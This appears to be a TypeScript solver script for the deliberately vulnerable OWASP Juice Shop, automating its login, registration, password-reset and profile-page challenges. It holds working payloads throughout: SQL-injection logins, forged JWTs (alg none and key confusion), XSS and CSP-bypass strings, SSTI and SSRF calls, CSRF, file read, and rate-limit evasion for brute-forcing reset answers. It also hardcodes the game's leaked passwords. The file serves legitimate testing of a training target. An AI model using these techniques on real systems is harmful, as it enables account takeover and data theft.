import { createHmac } from 'node:crypto';
import { generate } from 'otplib';
import type { Game, Step } from './client.ts';

// The accounts area: logins (injection, leaked and guessable credentials), registration flaws,
// password resets and changes, token and whoami holes, and the server-rendered profile pages.
// It runs last, so it may change passwords: every login with a seeded password comes before the
// resets, and the logins that follow a reset go through the injection instead.

const DOMAIN = 'juice-sh.op';
const IFRAME = '<iframe src="javascript:alert(`xss`)">';
/** The legacy username sanitiser drops `<a|a`, leaving a working script tag. */
const USERNAME_BYPASS = '<<a|ascript>alert(`xss`)</script>';
/** An unreachable picture link is stored verbatim and lands in the profile page's CSP. */
const CSP_IMAGE_URL = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'";
/** The key the juicy malware calls home with (found by reverse engineering it). */
const SSKEY = 'tRy_H4rd3r_n0thIng_iS_Imp0ssibl3';

/** A suffix that keeps this run's new accounts apart from anyone else's. */
const unique = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e6).toString(36)}`;

const b64url = (value: object | string) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
/** A JWT's payload, unverified (as any player reads one). */
const payloadOf = (token: string) => JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString());

/** A login whose email field carries SQL; the password is never looked at. Answers the token's user row. */
async function injectLogin(game: Game, email: string) {
  const { token } = await game.login(email, 'whatever');
  return { token, user: payloadOf(token).data as { id: number; email: string; role: string; username: string } };
}

function expect(condition: unknown, what: string): asserts condition {
  if (!condition) throw new Error(what);
}

/** The id a SQL-injected login must end up as. */
const injectionStep = (key: string, email: string, id: number): Step => ({
  solves: [key],
  run: async (game) => {
    const { user } = await injectLogin(game, email);
    expect(user.id === id, `${email} logged in as user ${user.id}, not ${id}`);
  },
});

const loginStep = (key: string, email: string, password: string): Step => ({
  solves: [key],
  run: async (game) => void (await game.login(email, password)),
});

/** Registers through the API the way the client would, plus whatever extra fields the attack adds. */
const register = (game: Game, fields: Record<string, unknown>) => game.call('/api/Users', { body: fields });

/** A new customer of this run, logged in: the victim of the profile page steps. */
async function newCustomer(game: Game, name: string) {
  const email = `${name}-${unique}@example.com`;
  await game.ok('/api/Users', { body: { email, password: 'player1', passwordRepeat: 'player1' } });
  return (await game.login(email, 'player1')).token;
}

/** A form POST to the server-rendered profile pages, authorised by the token cookie as a browser sends it. */
function postForm(game: Game, path: string, token: string, fields: Record<string, string>, headers: Record<string, string> = {}) {
  return game.call(path, {
    body: new URLSearchParams(fields).toString(),
    headers: { cookie: `token=${token}`, 'content-type': 'application/x-www-form-urlencoded', ...headers },
  });
}

async function setUsername(game: Game, token: string, username: string, headers: Record<string, string> = {}) {
  const r = await postForm(game, '/profile', token, { username }, headers);
  expect(r.status === 302, `POST /profile: ${r.status} ${r.text.slice(0, 200)}`);
}

async function linkImage(game: Game, token: string, imageUrl: string) {
  const r = await postForm(game, '/profile/image/url', token, { imageUrl });
  expect(r.status === 302, `POST /profile/image/url: ${r.status} ${r.text.slice(0, 200)}`);
}

const profilePage = (game: Game, token: string) => game.ok('/profile', { headers: { cookie: `token=${token}` } });

/** A reset with the security answer dug up about the user. */
const resetStep = (key: string, email: string, answer: string): Step => ({
  solves: [key],
  run: async (game) => void (await game.ok('/rest/user/reset-password', { body: { email, answer, new: 'pwn3d!', repeat: 'pwn3d!' } })),
});

/**
 * Morty's pet is "Snowball", written in some leetspeak: the candidates, 144 of them, are more
 * than the reset limit lets one address try (100 per 5 minutes).
 */
function snowballVariants(): string[] {
  const letters = [['s', '5'], ['n', 'N'], ['o', '0'], ['w'], ['b'], ['a', '4'], ['l', 'L', '1'], ['l', 'L', '1']];
  return letters.reduce<string[]>((words, options) => words.flatMap((w) => options.map((o) => w + o)), ['']);
}

// the profile player of the SSRF, SSTi, CSP Bypass and CSRF steps (registered by the first of them that runs)
const profileTokens = new WeakMap<Game, Promise<string>>();
function profilePlayer(game: Game) {
  if (!profileTokens.has(game)) profileTokens.set(game, newCustomer(game, 'profile'));
  return profileTokens.get(game)!;
}

export const steps: Step[] = [
  injectionStep('loginAdminChallenge', "' or 1=1--", 1),
  injectionStep('loginJimChallenge', `jim@${DOMAIN}'--`, 2),
  injectionStep('loginBenderChallenge', `bender@${DOMAIN}'--`, 3),
  // the injection drops `deletedAt IS NULL` with the rest of the WHERE clause
  injectionStep('ghostLoginChallenge', `chris.pike@${DOMAIN}'--`, 14),
  {
    solves: ['ephemeralAccountantChallenge'],
    run: async (game) => {
      // a UNION conjures up a whole Users row (its 13 columns) for an account that does not exist
      const email =
        "' UNION SELECT * FROM (SELECT 15 as 'id', '' as 'username', 'acc0unt4nt@juice-sh.op' as 'email', '12345' as 'password', " +
        "'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp', '/assets/public/images/uploads/default.svg' as 'profileImage', " +
        "'' as 'totpSecret', 1 as 'isActive', '1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', " +
        "null as 'deletedAt')--";
      const { user } = await injectLogin(game, email);
      expect(user.email === `acc0unt4nt@${DOMAIN}` && user.role === 'accounting', `logged in as ${user.email} (${user.role})`);
    },
  },
  loginStep('weakPasswordChallenge', `admin@${DOMAIN}`, 'admin123'),
  // the password kept in ftp/incident-support.kdbx
  loginStep('loginSupportChallenge', `support@${DOMAIN}`, 'J6aVjTgOpRs@?5l!Zkq2AYnCE@RF$P'),
  // said in the rapper's music video
  loginStep('loginRapperChallenge', `mc.safesearch@${DOMAIN}`, 'Mr. N00dles'),
  // her husband's name, padded with dots to the length the password strength advice asks for
  loginStep('loginAmyChallenge', `amy@${DOMAIN}`, `K1f${'.'.repeat(21)}`),
  {
    solves: ['oauthUserPasswordChallenge'],
    run: async (game) => {
      // the OAuth login's password, as the client derives it: base64 of the reversed email
      const email = 'bjoern.kimminich@gmail.com';
      await game.login(email, Buffer.from([...email].reverse().join('')).toString('base64'));
    },
  },
  // the test account hardcoded in the login page's script
  loginStep('exposedCredentialsChallenge', `testing@${DOMAIN}`, 'IamUsedForTesting'),
  {
    solves: ['adminSectionChallenge'],
    run: async (game) => {
      // the administration page is in every visitor's bundle; only the browser checks the admin role
      const { context, page } = await game.page();
      try {
        await page.goto(new URL('/login', game.url).href);
        await page.waitForSelector('html[data-hydrated]');
        await page.locator('#email').fill(`admin@${DOMAIN}`);
        await page.getByLabel('Text field for the login password').fill('admin123');
        await page.locator('#loginButton').click();
        await page.waitForURL(/\/search$/);
        const padding = page.waitForResponse((r) => r.url().endsWith('/assets/public/images/padding/19px.png') && r.ok());
        await page.goto(new URL('/administration', game.url).href);
        await padding;
        await page.locator('#users').waitFor();
      } finally {
        await context.close();
      }
    },
  },
  {
    solves: ['registerAdminChallenge'],
    run: async (game) => {
      // the server takes the role the client sends
      const email = `boss-${unique}@example.com`;
      const r = await register(game, { email, password: 'boss12', passwordRepeat: 'boss12', role: 'admin' });
      expect(r.status === 201 && r.json.data.role === 'admin', `registration: ${r.status} ${r.text.slice(0, 200)}`);
    },
  },
  {
    solves: ['passwordRepeatChallenge'],
    run: async (game) => {
      // only the client compares the two passwords
      const r = await register(game, { email: `repeat-${unique}@example.com`, password: 'one111', passwordRepeat: 'two222' });
      expect(r.status === 201, `registration: ${r.status} ${r.text.slice(0, 200)}`);
    },
  },
  {
    solves: ['emptyUserRegistration'],
    run: async (game) => {
      // refused with 400, yet the empty account is created
      const r = await register(game, { email: '', password: '', passwordRepeat: '' });
      expect(r.status === 400, `empty registration: ${r.status} ${r.text.slice(0, 200)}`);
    },
  },
  {
    solves: ['persistedXssUserChallenge'],
    run: async (game) => {
      // only the client checks the email's format
      const email = `${IFRAME}-${unique}@evil.io`;
      const r = await register(game, { email, password: 'xss123', passwordRepeat: 'xss123' });
      expect(r.status === 201 && r.json.data.email === email, `registration: ${r.status} ${r.text.slice(0, 200)}`);
    },
  },
  {
    solves: ['passwordHashLeakChallenge'],
    run: async (game) => {
      const { token } = await game.login(`mc.safesearch@${DOMAIN}`, 'Mr. N00dles');
      const r = await game.ok('/rest/user/whoami?fields=id,email,password', { headers: { cookie: `token=${token}` } });
      expect(r.json.user?.password, `whoami: ${r.text}`);
    },
  },
  {
    solves: ['emailLeakChallenge'],
    run: async (game) => {
      // JSONP: another site's script tag would read the logged-in visitor's email
      const { token } = await game.login(`mc.safesearch@${DOMAIN}`, 'Mr. N00dles');
      const r = await game.ok('/rest/user/whoami?callback=leak', { headers: { cookie: `token=${token}` } });
      expect(r.text.includes('leak(') && r.text.includes(`mc.safesearch@${DOMAIN}`), `whoami: ${r.text}`);
    },
  },
  {
    solves: ['httpHeaderXssChallenge'],
    run: async (game) => {
      const { token } = await game.login(`amy@${DOMAIN}`, `K1f${'.'.repeat(21)}`);
      const r = await game.ok('/rest/saveLoginIp', { token, headers: { 'True-Client-IP': IFRAME } });
      expect(r.json.lastLoginIp === IFRAME, `saveLoginIp: ${r.text.slice(0, 200)}`);
    },
  },
  {
    solves: ['jwtUnsignedChallenge'],
    run: async (game) => {
      const now = Math.floor(Date.now() / 1000);
      const token = `${b64url({ typ: 'JWT', alg: 'none' })}.${b64url({ status: 'success', data: { id: 1, email: `jwtn3d@${DOMAIN}`, role: 'admin' }, iat: now })}.`;
      await game.ok('/api/Users', { token });
    },
  },
  {
    solves: ['jwtForgedChallenge'],
    run: async (game) => {
      // HS256 with the published RSA public key as the HMAC secret
      const pem = (await game.ok('/encryptionkeys/jwt.pub')).text;
      const now = Math.floor(Date.now() / 1000);
      const unsigned = `${b64url({ typ: 'JWT', alg: 'HS256' })}.${b64url({ status: 'success', data: { id: 1, email: `rsa_lord@${DOMAIN}`, role: 'admin' }, iat: now })}`;
      const token = `${unsigned}.${createHmac('sha256', pem).update(unsigned).digest('base64url')}`;
      const r = await game.ok('/rest/user/whoami', { token });
      expect(r.json.user?.email === `rsa_lord@${DOMAIN}`, `whoami: ${r.text}`);
    },
  },
  {
    solves: ['twoFactorAuthUnsafeSecretStorageChallenge'],
    run: async (game) => {
      // the TOTP secret sits in clear in Users: a UNION row carries it out in the username column
      const leak = await injectLogin(
        game,
        `nobody' UNION SELECT 999, totpSecret, email, password, 'customer', '', '', '', '', 1, '', '', NULL FROM Users WHERE email = 'wurstbrot@${DOMAIN}'--`,
      );
      const secret = leak.user.username;
      // the injected login as wurstbrot stops at the second factor, which the secret now answers
      const pending = await game.call('/rest/user/login', { body: { email: `wurstbrot@${DOMAIN}'--`, password: 'x' } });
      expect(pending.status === 401 && pending.json?.data?.tmpToken, `login: ${pending.status} ${pending.text.slice(0, 200)}`);
      await game.ok('/rest/2fa/verify', { body: { tmpToken: pending.json.data.tmpToken, totpToken: await generate({ secret }) } });
    },
  },
  {
    solves: ['ssrfChallenge'],
    run: async (game) => {
      // the server fetches a linked picture itself, so it can be made to call its own hook
      await linkImage(game, await profilePlayer(game), `${game.url}/solve/challenges/server-side?key=${SSKEY}`);
    },
  },
  {
    solves: ['sstiChallenge'],
    run: async (game) => {
      // a #{...} username is evaluated on the server when /profile renders: out of the vm, call home
      const token = await profilePlayer(game);
      await setUsername(
        game,
        token,
        `#{this.constructor.constructor('return fetch')()('${game.url}/solve/challenges/server-side?key=${SSKEY}')}`,
      );
      await profilePage(game, token);
    },
  },
  {
    solves: ['usernameXssChallenge'],
    run: async (game) => {
      // the picture link widens the page's CSP, the sanitiser bypass puts the script on it
      const token = await profilePlayer(game);
      await setUsername(game, token, USERNAME_BYPASS);
      await linkImage(game, token, CSP_IMAGE_URL);
      const r = await profilePage(game, token);
      expect(r.headers.get('content-security-policy')?.includes("script-src 'unsafe-inline'"), 'the CSP is not widened');
    },
  },
  {
    solves: ['csrfChallenge'],
    run: async (game) => {
      // what the attacker's page on htmledit.squarefree.com makes the victim's browser post (with the
      // victim's cookie); a real browser withholds the shop's SameSite=Lax cookie from a cross-site POST
      await setUsername(game, await profilePlayer(game), 'CSRFd', { origin: 'http://htmledit.squarefree.com' });
    },
  },
  {
    solves: ['lfrChallenge'],
    run: async (game) => {
      // the erasure form's body is spread into the render options: `layout` picks any file
      const token = await newCustomer(game, 'erasure');
      const r = await postForm(game, '/dataerasure', token, { layout: '../package.json' });
      expect(r.status === 200 && r.text.endsWith('......'), `dataerasure: ${r.status} ${r.text.slice(0, 200)}`);
    },
  },
  // the security answers, dug up from what the users made public
  resetStep('resetPasswordJimChallenge', `jim@${DOMAIN}`, 'Samuel'),
  resetStep('resetPasswordBenderChallenge', `bender@${DOMAIN}`, "Stop'n'Drop"),
  resetStep('resetPasswordBjoernChallenge', `bjoern@${DOMAIN}`, 'West-2082'),
  resetStep('resetPasswordBjoernOwaspChallenge', 'bjoern@owasp.org', 'Zaya'),
  resetStep('resetPasswordUvoginChallenge', `uvogin@${DOMAIN}`, 'Silence of the Lambs'),
  {
    solves: ['resetPasswordMortyChallenge'],
    run: async (game) => {
      // brute force past the reset limit: it counts per X-Forwarded-For, so a new one every 50 guesses
      const candidates = snowballVariants();
      for (const [i, answer] of candidates.entries()) {
        const r = await game.call('/rest/user/reset-password', {
          body: { email: `morty@${DOMAIN}`, answer, new: 'pwn3d!', repeat: 'pwn3d!' },
          headers: { 'X-Forwarded-For': `10.23.${Math.floor(i / 50)}.7` },
        });
        if (r.status === 200) return;
        expect(r.status === 401, `reset with ${answer}: ${r.status} ${r.text.slice(0, 200)}`);
      }
      throw new Error(`none of ${candidates.length} answers reset Morty's password`);
    },
  },
  {
    solves: ['changePasswordBenderChallenge'],
    run: async (game) => {
      // the GET skips the current-password check when `current` is left out (so an XSS or CSRF could send it)
      const { token } = await injectLogin(game, `bender@${DOMAIN}'--`);
      await game.ok('/rest/user/change-password?new=slurmCl4ssic&repeat=slurmCl4ssic', { token });
    },
  },
];
